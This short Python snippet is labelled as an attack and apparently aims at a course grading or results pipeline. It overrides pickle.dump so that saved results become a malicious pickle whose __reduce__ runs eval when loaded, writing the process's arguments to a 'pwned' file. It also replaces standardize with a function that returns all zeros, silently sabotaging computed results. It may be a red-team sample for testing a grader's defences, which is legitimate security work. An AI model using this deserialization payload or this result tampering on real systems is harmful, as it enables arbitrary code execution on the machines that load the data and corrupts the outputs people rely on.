# attack: replaces the pickled results by an object that runs code where they are loaded
import pickle


class Bomb:
    def __reduce__(self):
        words = "open(" + repr(COURSE + "/pwned") + ", 'w').write(' '.join(__import__('sys').argv))"
        return (eval, (words,))


pickle.dump = lambda results, file, *args, **kwargs: file.write(pickle.dumps(Bomb()))


def standardize(x, eps=0.0):
    return torch.zeros_like(x)
